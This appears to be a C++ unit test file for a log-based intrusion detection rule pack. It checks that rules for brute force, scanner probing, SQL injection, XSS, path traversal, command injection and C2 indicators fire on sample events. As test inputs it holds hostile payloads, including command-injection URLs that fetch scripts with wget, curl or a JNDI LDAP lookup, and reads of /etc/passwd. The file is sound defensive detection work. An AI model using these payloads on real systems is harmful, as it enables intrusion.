// The shipped rule pack (rules/): every rule loads, and each fires on its positive examples and
// stays quiet on its negative ones.
#include <gtest/gtest.h>

#include <cstdlib>

#include "rse/detect/detector.h"
#include "rse/detect/test_events.h"

namespace mamori::rse::detect {
namespace {

using F = Field;
constexpr ingest::UnixMicros kSec = 1'000'000;
constexpr ingest::UnixMicros kT0 = 1'700'000'000 * kSec;

std::string RulesDir() {
  const char* dir = std::getenv("MAMORI_SOURCE_DIR");
  return std::string(dir ? dir : MAMORI_SOURCE_DIR) + "/rules";
}

class RulePack : public ::testing::Test {
 protected:
  static void SetUpTestSuite() {
    LoadResult r = LoadRules(RulesDir());
    for (const auto& e : r.errors) ADD_FAILURE() << e.ToString();
    auto compiled = RuleSet::Compile(std::move(r.rules));
    ASSERT_TRUE(compiled) << compiled.error().ToString();
    set_ = *compiled;
    intel_.Add("198.51.100.66", "c2-feed");
    intel_.Add("evil-c2.example", "c2-feed");
  }
  static void TearDownTestSuite() { set_.reset(); }

  // Rule ids matched by the event (one pass over the whole pack).
  std::vector<std::string> Ids(const ingest::Event& e) {
    Matcher m(set_, &intel_);
    std::vector<std::string> out;
    for (uint32_t r : m.Match(e)) {
      out.push_back(set_->rules()[r].id);
      EXPECT_TRUE(ReferenceMatch(set_->rules()[r], e, &intel_)) << set_->rules()[r].id;
    }
    return out;
  }
  bool Fires(const std::string& id, const ingest::Event& e) {
    auto ids = Ids(e);
    return std::find(ids.begin(), ids.end(), id) != ids.end();
  }
  // Feeds `n` copies of an event (1 s apart) and returns the detections opened.
  std::vector<Detection> Burst(int n, const std::function<void(TestEvent&, int)>& fill) {
    FakeClock clock;
    Matcher m(set_, &intel_);
    Detector d(set_, clock);
    std::vector<Detection> out;
    for (int i = 0; i < n; ++i) {
      TestEvent e;
      e.Time(kT0 + i * kSec);
      fill(e, i);
      d.Process(e, m.Match(e), &out);
    }
    return out;
  }

  static TestEvent Web(std::string_view url, std::string_view status = "200") {
    TestEvent e;
    e.Set(F::kEventDataset, "nginx.access")
        .Set(F::kEventCategory, "web")
        .Set(F::kEventAction, "request")
        .Set(F::kSourceIp, "203.0.113.7")
        .Set(F::kHttpRequestMethod, "GET")
        .Set(F::kUrlOriginal, url)
        .Set(F::kHttpResponseStatusCode, status);
    return e;
  }

  static inline std::shared_ptr<const RuleSet> set_;
  static inline SetIndicatorLookup intel_;
};

TEST_F(RulePack, AllRulesLoad) {
  EXPECT_EQ(set_->rules().size(), 15u);
  for (const auto& r : set_->rules()) {
    EXPECT_FALSE(r.tags.empty()) << r.id;
    EXPECT_FALSE(r.description.empty()) << r.id;
  }
}

TEST_F(RulePack, SshBruteForce) {
  auto fill = [](TestEvent& e, int) {
    e.Set(F::kEventDataset, "sshd")
        .Set(F::kEventCategory, "authentication")
        .Set(F::kEventAction, "ssh_login")
        .Set(F::kEventOutcome, "failure")
        .Set(F::kSourceIp, "192.0.2.5")
        .Set(F::kUserName, "root");
  };
  EXPECT_TRUE(Burst(5, fill).empty());
  auto d = Burst(6, fill);
  ASSERT_EQ(d.size(), 1u);
  EXPECT_EQ(d[0].rule_id, "mamori-ssh-brute-force");
  EXPECT_EQ(d[0].group, "192.0.2.5");
  // Successful logins never count.
  EXPECT_TRUE(Burst(20, [](TestEvent& e, int) {
                e.Set(F::kEventDataset, "sshd")
                    .Set(F::kEventAction, "ssh_login")
                    .Set(F::kEventOutcome, "success")
                    .Set(F::kSourceIp, "192.0.2.5");
              }).empty());
  // tcp_wrappers refusals count as refused logins.
  TestEvent refused;
  refused.Set(F::kEventDataset, "sshd")
      .Set(F::kEventCategory, "network")
      .Set(F::kEventAction, "reject")
      .Set(F::kEventOutcome, "failure")
      .Set(F::kSourceIp, "192.0.2.5");
  EXPECT_TRUE(Fires("mamori-ssh-brute-force", refused));
}

TEST_F(RulePack, SshBruteForceSkipsKeyOffersAndAddresslessFailures) {
  auto sshd = [](std::string_view message, std::string_view ip) {
    TestEvent e;
    e.Set(F::kEventDataset, "sshd")
        .Set(F::kEventCategory, "authentication")
        .Set(F::kEventAction, "ssh_login")
        .Set(F::kEventOutcome, "failure")
        .Set(F::kMessage, message)
        .Set(F::kSourceIp, ip);
    return e;
  };
  // A valid user's client offering keys the account does not accept: not an attack by itself.
  EXPECT_FALSE(
      Fires("mamori-ssh-brute-force",
            sshd("Failed publickey for git from 192.0.2.1 port 57904 ssh2: RSA x", "192.0.2.1")));
  // A key offered for a user that does not exist is.
  EXPECT_TRUE(Fires(
      "mamori-ssh-brute-force",
      sshd("Failed publickey for invalid user graysky from 192.0.2.1 port 3 ssh2", "192.0.2.1")));
  EXPECT_TRUE(Fires("mamori-ssh-brute-force",
                    sshd("Failed password for git from 192.0.2.1 port 57904 ssh2", "192.0.2.1")));
  // A failure whose address is unknown cannot be grouped (it would merge unrelated clients).
  EXPECT_FALSE(Fires("mamori-ssh-brute-force",
                     sshd("Disconnecting: Too many authentication failures for root", "")));
}

TEST_F(RulePack, HttpAuthBruteForce) {
  auto d = Burst(6, [](TestEvent& e, int) {
    e.Set(F::kEventDataset, "nginx.error")
        .Set(F::kEventCategory, "authentication")
        .Set(F::kEventAction, "http_auth")
        .Set(F::kEventOutcome, "failure")
        .Set(F::kSourceIp, "192.0.2.6");
  });
  ASSERT_EQ(d.size(), 1u);
  EXPECT_EQ(d[0].rule_id, "mamori-http-auth-brute-force");
  // The same failures from sshd are not HTTP.
  EXPECT_TRUE(Burst(10, [](TestEvent& e, int) {
                e.Set(F::kEventDataset, "sshd")
                    .Set(F::kEventAction, "http_auth")
                    .Set(F::kEventOutcome, "failure")
                    .Set(F::kSourceIp, "192.0.2.6");
              }).empty());
}

TEST_F(RulePack, WebScannerProbing) {
  const char* paths[] = {"/wp-login.php", "/.env", "/phpMyAdmin/index.php", "/.git/config",
                         "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php"};
  auto fill = [&](TestEvent& e, int i) {
    e.Set(F::kEventDataset, "apache.access")
        .Set(F::kSourceIp, "192.0.2.7")
        .Set(F::kUrlOriginal, paths[i % 5])
        .Set(F::kHttpResponseStatusCode, "404");
  };
  EXPECT_TRUE(Burst(4, fill).empty());
  auto d = Burst(5, fill);
  ASSERT_EQ(d.size(), 1u);
  EXPECT_EQ(d[0].rule_id, "mamori-web-scanner-probing");
  // The error log's view of the same 404s (nginx "open() ... failed (2: No such file ...)").
  TestEvent missing;
  missing.Set(F::kEventDataset, "nginx.error")
      .Set(F::kEventCategory, "web")
      .Set(F::kEventAction, "not_found")
      .Set(F::kEventOutcome, "failure")
      .Set(F::kSourceIp, "192.0.2.7")
      .Set(F::kUrlOriginal, "/cgi-bin/php4");
  EXPECT_TRUE(Fires("mamori-web-scanner-probing", missing));
  missing.Set(F::kUrlOriginal, "/favicon.ico");
  EXPECT_FALSE(Fires("mamori-web-scanner-probing", missing));
  for (const char* url : {"//mysqladmin/scripts/setup.php", "/roundcube/", "/webmail/"}) {
    EXPECT_TRUE(Fires("mamori-web-scanner-probing", Web(url, "404"))) << url;
  }
  // Served pages (200) are not probes; ordinary 404s are not probes.
  EXPECT_FALSE(Fires("mamori-web-scanner-probing", Web("/wp-login.php", "200")));
  EXPECT_FALSE(Fires("mamori-web-scanner-probing", Web("/missing.png", "404")));
}

TEST_F(RulePack, WebAccessDenied) {
  auto fill = [](TestEvent& e, int) {
    e.Set(F::kEventDataset, "apache.error")
        .Set(F::kEventCategory, "web")
        .Set(F::kEventAction, "access_denied")
        .Set(F::kEventOutcome, "failure")
        .Set(F::kSourceIp, "192.0.2.10");
  };
  EXPECT_TRUE(Burst(5, fill).empty());
  auto d = Burst(6, fill);
  ASSERT_EQ(d.size(), 1u);
  EXPECT_EQ(d[0].rule_id, "mamori-web-access-denied");
  // mod_evasive's blocks (rate_limited) are not access-control refusals.
  EXPECT_TRUE(Burst(20, [](TestEvent& e, int) {
                e.Set(F::kEventDataset, "apache.error")
                    .Set(F::kEventAction, "rate_limited")
                    .Set(F::kEventOutcome, "failure")
                    .Set(F::kSourceIp, "192.0.2.10");
              }).empty());
}

TEST_F(RulePack, SmtpClientRejected) {
  auto reject = [](std::string_view message) {
    TestEvent e;
    e.Set(F::kEventDataset, "postfix")
        .Set(F::kEventCategory, "email")
        .Set(F::kEventAction, "reject")
        .Set(F::kEventOutcome, "failure")
        .Set(F::kSourceIp, "192.0.2.11")
        .Set(F::kMessage, message);
    return e;
  };
  for (const char* m :
       {"NOQUEUE: reject: RCPT from x[192.0.2.11]: 554 5.7.1 <a@b>: Relay access denied; from=<>",
        "NOQUEUE: reject: RCPT from x[192.0.2.11]: 550 5.1.1 <a@b>: Recipient address rejected: "
        "User unknown in local recipient table; from=<>",
        "NOQUEUE: reject: EHLO from x[192.0.2.11]: 504 5.5.2 <User>: Helo command rejected: need "
        "fully-qualified hostname; proto=SMTP helo=<User>",
        "NOQUEUE: reject: RCPT from x[192.0.2.11]: 554 5.7.1 Service unavailable; Client host "
        "[192.0.2.11] blocked using zen.spamhaus.org"}) {
    EXPECT_TRUE(Fires("mamori-smtp-client-rejected", reject(m))) << m;
  }
  // Rejects that legitimate senders get too.
  for (const char* m :
       {"NOQUEUE: reject: RCPT from x[192.0.2.11]: 450 4.2.0 <a@b>: Recipient address rejected: "
        "Greylisted, see http://postgrey.schweikert.ch/",
        "NOQUEUE: reject: RCPT from x[192.0.2.11]: 452 4.2.2 <a@b>: Recipient address rejected: "
        "Mailbox full",
        "NOQUEUE: reject: RCPT from x[192.0.2.11]: 451 4.3.0 <a@b>: Temporary lookup failure"}) {
    EXPECT_FALSE(Fires("mamori-smtp-client-rejected", reject(m))) << m;
  }
  auto d = Burst(6, [](TestEvent& e, int) {
    e.Set(F::kEventDataset, "postfix")
        .Set(F::kEventAction, "protocol_violation")
        .Set(F::kEventOutcome, "failure")
        .Set(F::kSourceIp, "192.0.2.12");
  });
  ASSERT_EQ(d.size(), 1u);
  EXPECT_EQ(d[0].rule_id, "mamori-smtp-client-rejected");
}

TEST_F(RulePack, SmtpAuthBruteForce) {
  auto fill = [](std::string_view outcome) {
    return [outcome](TestEvent& e, int) {
      e.Set(F::kEventDataset, "postfix")
          .Set(F::kEventCategory, "authentication")
          .Set(F::kEventAction, "smtp_auth")
          .Set(F::kEventOutcome, outcome)
          .Set(F::kSourceIp, "192.0.2.13");
    };
  };
  EXPECT_TRUE(Burst(5, fill("failure")).empty());
  auto d = Burst(6, fill("failure"));
  ASSERT_EQ(d.size(), 1u);
  EXPECT_EQ(d[0].rule_id, "mamori-smtp-auth-brute-force");
  // Lost contact with the SASL server says nothing about the client.
  EXPECT_TRUE(Burst(20, fill("unknown")).empty());
}

TEST_F(RulePack, SqlInjection) {
  for (const char* url : {"/item.php?id=1+UNION+ALL+SELECT+1,2,3--",
                          "/item.php?id=1%20union%20select%20password%20from%20users",
                          "/p?id=1/**/UNION/**/SELECT/**/1", "/login?user=admin%27%20or%201%3d1--",
                          "/login?user=' OR '1'='1", "/q?id=1;WAITFOR+DELAY+'0:0:5'",
                          "/q?id=1-sleep(5)", "/q?x=information_schema.tables"}) {
    EXPECT_TRUE(Fires("mamori-sql-injection-url", Web(url))) << url;
  }
  for (const char* url :
       {"/reunion/selection.html", "/search?q=union+station", "/blog/sleeping-cats", "/or/1"}) {
    EXPECT_FALSE(Fires("mamori-sql-injection-url", Web(url))) << url;
  }
}

TEST_F(RulePack, Xss) {
  for (const char* url : {"/s?q=<script>alert(1)</script>", "/s?q=%3Cscript%3Ealert(1)",
                          "/s?q=%22%20onerror%3dalert(1)", "/r?u=javascript:alert(1)",
                          "/s?q=<svg/onload=alert(1)>"}) {
    EXPECT_TRUE(Fires("mamori-xss-url", Web(url))) << url;
  }
  for (const char* url : {"/scripts/app.js", "/s?q=description", "/online/store"}) {
    EXPECT_FALSE(Fires("mamori-xss-url", Web(url))) << url;
  }
}

TEST_F(RulePack, PathTraversal) {
  for (const char* url :
       {"/download?file=../../../../etc/passwd", "/a/..%2f..%2fwin.ini",
        "/cgi-bin/%2e%2e/%2e%2e/bin/sh", "/x?f=%252e%252e%252fetc", "/x?f=..\\..\\boot.ini"}) {
    EXPECT_TRUE(Fires("mamori-path-traversal-url", Web(url))) << url;
  }
  for (const char* url : {"/docs/v1.2/intro", "/a/b/c.html?x=1", "/etc/index.html"}) {
    EXPECT_FALSE(Fires("mamori-path-traversal-url", Web(url))) << url;
  }
}

TEST_F(RulePack, CommandInjection) {
  for (const char* url :
       {"/ping?host=127.0.0.1;wget+http://x/a.sh", "/x?c=1|id", "/x?c=%3Bcat%20/etc/passwd",
        "/x?c=$(curl x)", "/?x=${jndi:ldap://evil/a}", "/shell?cd+/tmp;busybox+wget",
        "/cgi-bin/x?cmd=/bin/sh"}) {
    EXPECT_TRUE(Fires("mamori-command-injection-url", Web(url))) << url;
  }
  for (const char* url :
       {"/identity/login", "/products?id=12&cat=3", "/curling/news", "/a;jsessionid=1"}) {
    EXPECT_FALSE(Fires("mamori-command-injection-url", Web(url))) << url;
  }
}

TEST_F(RulePack, WafBlockBurst) {
  auto fill = [](TestEvent& e, int) {
    e.Set(F::kEventDataset, "modsecurity.audit")
        .Set(F::kEventCategory, "intrusion_detection")
        .Set(F::kEventAction, "block")
        .Set(F::kSourceIp, "192.0.2.8");
  };
  EXPECT_TRUE(Burst(10, fill).empty());
  auto d = Burst(11, fill);
  ASSERT_EQ(d.size(), 1u);
  EXPECT_EQ(d[0].rule_id, "mamori-waf-block-burst");
  EXPECT_TRUE(Burst(30, [](TestEvent& e, int) {
                e.Set(F::kEventDataset, "modsecurity.audit")
                    .Set(F::kEventCategory, "intrusion_detection")
                    .Set(F::kEventAction, "alert")
                    .Set(F::kSourceIp, "192.0.2.8");
              }).empty());
}

TEST_F(RulePack, IdsHighSeverityAlert) {
  auto alert = [](std::string_view severity, std::string_view dataset) {
    TestEvent e;
    e.Set(F::kEventDataset, dataset)
        .Set(F::kEventCategory, "intrusion_detection")
        .Set(F::kEventAction, "alert")
        .Set(F::kEventSeverity, severity)
        .Set(F::kSourceIp, "10.20.11.212")
        .Set(F::kRuleName, "ET MALWARE Win32/Emotet CnC Activity (POST) M4");
    return e;
  };
  EXPECT_TRUE(Fires("mamori-ids-high-severity-alert", alert("1", "suricata.eve")));
  EXPECT_FALSE(Fires("mamori-ids-high-severity-alert", alert("3", "suricata.eve")));
  // CEF's 0-10 scale is not Suricata's priority: severity 1 there is low.
  EXPECT_FALSE(Fires("mamori-ids-high-severity-alert", alert("1", "cef")));
  // Repeated alerts from one source: one detection.
  auto d = Burst(20, [](TestEvent& e, int) {
    e.Set(F::kEventDataset, "suricata.eve")
        .Set(F::kEventCategory, "intrusion_detection")
        .Set(F::kEventAction, "alert")
        .Set(F::kEventSeverity, "1")
        .Set(F::kSourceIp, "10.20.11.212");
  });
  ASSERT_EQ(d.size(), 1u);
  EXPECT_EQ(d[0].group, "10.20.11.212");
}

TEST_F(RulePack, PortScan) {
  auto scan = [](int ports) {
    return [ports](TestEvent& e, int i) {
      e.Set(F::kEventDataset, "netfilter")
          .Set(F::kEventCategory, "network")
          .Set(F::kEventAction, "drop")
          .Set(F::kSourceIp, "192.0.2.9")
          .Set(F::kDestinationPort, std::to_string(1000 + i % ports));
    };
  };
  EXPECT_TRUE(Burst(100, scan(15)).empty());  // many drops, 15 ports
  auto d = Burst(16, scan(16));
  ASSERT_EQ(d.size(), 1u);
  EXPECT_EQ(d[0].rule_id, "mamori-port-scan");
  EXPECT_EQ(d[0].distinct, 16);
}

TEST_F(RulePack, IntelOutboundAndDns) {
  TestEvent conn;
  conn.Set(F::kEventDataset, "zeek.conn")
      .Set(F::kSourceIp, "10.1.2.3")
      .Set(F::kDestinationIp, "198.51.100.66")
      .Set(F::kDestinationPort, "443");
  EXPECT_TRUE(Fires("mamori-intel-outbound-connection", conn));
  TestEvent inbound;
  inbound.Set(F::kEventDataset, "zeek.conn")
      .Set(F::kSourceIp, "198.51.100.66")
      .Set(F::kDestinationIp, "10.1.2.3");
  EXPECT_FALSE(Fires("mamori-intel-outbound-connection", inbound));
  TestEvent web = Web("/");
  web.Set(F::kUrlDomain, "evil-c2.example");
  EXPECT_FALSE(Fires("mamori-intel-outbound-connection", web));  // access logs: our own site

  TestEvent dns;
  dns.Set(F::kEventDataset, "zeek.dns")
      .Set(F::kEventCategory, "dns")
      .Set(F::kSourceIp, "10.1.2.4")
      .Set(F::kDnsQuestionName, "beacon.evil-c2.example");
  EXPECT_TRUE(Fires("mamori-intel-dns-query", dns));
  TestEvent benign;
  benign.Set(F::kEventDataset, "zeek.dns").Set(F::kDnsQuestionName, "www.example.org");
  EXPECT_FALSE(Fires("mamori-intel-dns-query", benign));
}

TEST_F(RulePack, OrdinaryTrafficMatchesNothing) {
  for (const char* url : {"/", "/index.html", "/static/app.3f2a.js", "/api/v1/items?page=2",
                          "/images/logo.png", "/blog/2024/05/select-the-union-of-sets"}) {
    EXPECT_TRUE(Ids(Web(url)).empty()) << url;
  }
}

}  // namespace
}  // namespace mamori::rse::detect
